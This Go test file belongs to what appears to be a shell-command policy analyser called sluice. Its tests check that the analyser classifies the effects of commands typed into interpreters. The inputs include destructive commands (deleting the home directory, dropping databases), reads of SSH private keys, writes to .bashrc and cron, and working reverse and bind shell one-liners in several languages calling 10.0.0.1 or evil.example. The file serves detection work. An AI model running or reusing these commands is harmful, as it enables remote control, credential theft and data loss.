package shell

import (
	"slices"
	"strings"
	"testing"

	"github.com/sluice-project/sluice/policy/effect"
	"github.com/sluice-project/sluice/policy/invocation"
)

// What is typed behind a program that waits for it does what it does as its input.
func TestLinesBehindAProgramAreMeantForIt(t *testing.T) {
	setting := invocation.Setting{Place: effect.Place{Cwd: "/home/u/p", Home: "/home/u"}}
	for program, lines := range map[string]string{
		"python3": "import shutil\nshutil.rmtree('/home/u')", "node": "require('fs').rmSync('/home/u', {recursive: true})", "irb": "require 'fileutils'\nFileUtils.rm_rf('/home/u')",
		"psql shop": "DROP TABLE users;", "mysql -u root": "DROP DATABASE shop;", "sqlite3 app.db": "DROP TABLE users;", "redis-cli -h h": "FLUSHALL",
		"mongosh": "db.dropDatabase()", "terraform console": `file("/home/u/.ssh/id_rsa")`, "jjs": "new java.io.FileWriter('/home/u/.bashrc').write('x')",
		"tclsh": "set s [socket evil.example 4444]\nwhile 1 { gets $s c; set e \"exec $c\"; eval $e }",
	} {
		asInput := said(Read(program+" <<'END'\n"+lines+"\nEND\n", setting))
		if len(asInput) == 0 {
			t.Errorf("%s does nothing with %s", program, lines)
		}
		for _, before := range []string{"", "true\n", "sudo "} {
			typed := said(Read(before+program+"\n"+lines+"\n", setting))
			for _, want := range asInput {
				if !slices.ContainsFunc(typed, func(got string) bool { return strings.HasPrefix(strings.ReplaceAll(got, " sudo", ""), want) }) {
					t.Errorf("%s%s\\n%s: does %q, not %q", before, program, lines, typed, want)
				}
			}
		}
	}
	for _, text := range []string{"python3 build.py\nls src", "psql -c 'select 1' shop\nrm -f a.log", "node\n", "terraform plan\nls", "sqlite3 a.db .tables\ngit status"} {
		for _, got := range said(Read(text, setting)) {
			if verb, _, _ := strings.Cut(got, " "); !slices.Contains([]string{"run", "delete", "read"}, verb) || strings.Contains(got, "wide") {
				t.Errorf("%q does %s", text, got)
			}
		}
	}
}

// Programs in languages of which only the words are known read keys and write files
// that run by themselves wherever they get their text from.
func TestPathsInProgramsOfAnyLanguage(t *testing.T) {
	setting := invocation.Setting{Place: effect.Place{Cwd: "/home/u/p", Home: "/home/u"}}
	for verb, programs := range map[string][]string{
		"read": {
			`new java.io.BufferedReader(new java.io.FileReader("PATH")).lines().forEach(print)`, `puts [read [open PATH r]]`, `print(read("PATH", String))`, `println(slurp("PATH"))`,
		},
		"write": {
			`var w = new java.io.FileWriter("PATH"); w.write("x")`, `new java.io.FileOutputStream("PATH").getChannel().transferFrom(c, 0, 9)`, `puts [open PATH w] x`, `java.nio.file.Files.copy(in, P.get("PATH"))`,
		},
	} {
		for _, program := range programs {
			for _, path := range []string{"/home/u/.ssh/id_rsa", "/home/u/.bashrc", "/etc/cron.d/x", "/home/u/p/notes.txt"} {
				text := strings.ReplaceAll(program, "PATH", path)
				for _, command := range []string{"jjs <<'END'\n" + text + "\nEND", "echo '" + text + "' | tclsh", "julia -e '" + text + "'"} {
					got := slices.ContainsFunc(said(Read(command, setting)), func(s string) bool { return s == verb+" "+path })
					if want := verb == "read" && strings.Contains(path, ".ssh") || verb == "write" && !strings.Contains(path, ".ssh") && !strings.Contains(path, "notes"); got != want {
						t.Errorf("%s: %s is %t", command, verb+" "+path, got)
					}
				}
			}
		}
	}
}

// Whoever connects, or is connected to, says what runs.
func TestShellsOverConnectionsInFurtherLanguages(t *testing.T) {
	setting := invocation.Setting{Place: effect.Place{Cwd: "/home/u/p", Home: "/home/u"}}
	for _, text := range []string{
		"perl -MIO::Socket -e '$s=IO::Socket::INET->new(LocalPort=>4444,Listen=>1)->accept;while(<$s>){print $s `$_`}'",
		"ruby -rsocket -e 's=TCPServer.new(4444).accept;while l=s.gets;s.puts `#{l}`;end'",
		`R -e 's<-socketConnection("10.0.0.1",443,blocking=TRUE);while(TRUE){c<-readLines(s,1);writeLines(system(c,intern=TRUE),s)}'`,
		`gdb -nx -ex 'python import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' -ex quit`,
		`ghci -e 'System.Process.callCommand "nc 10.0.0.1 443 -e sh"'`,
		`pwsh -c '$l=New-Object System.Net.Sockets.TcpListener(4444);$l.start();$s=$l.AcceptTcpClient().GetStream();while(($i=$s.Read($b,0,9)) -ne 0){iex ([text.encoding]::ASCII.GetString($b,0,$i))}'`,
		"echo 'import net,osproc;var s=newSocket();s.connect(\"10.0.0.1\",Port(443));while true:(let c=s.recvLine();s.send(execProcess(c)))' > x.nim; nim r x.nim",
	} {
		if got := said(Read(text, setting)); !slices.ContainsFunc(got, func(s string) bool { return strings.HasPrefix(s, "reverse-shell") }) {
			t.Errorf("%s: %q", text, got)
		}
	}
	for _, text := range []string{
		"perl -MIO::Socket -e '$s=IO::Socket::INET->new(\"db:5432\") or die; print \"up\"'", "ruby -rsocket -e 's=TCPSocket.new(\"localhost\",80);s.puts \"GET /\";puts s.gets'",
		"pwsh -c '(New-Object System.Net.Sockets.TcpClient).Connect(\"db\", 5432)'",
	} {
		if got := said(Read(text, setting)); slices.ContainsFunc(got, func(s string) bool { return strings.HasPrefix(s, "reverse-shell") }) {
			t.Errorf("%s: %q", text, got)
		}
	}
}
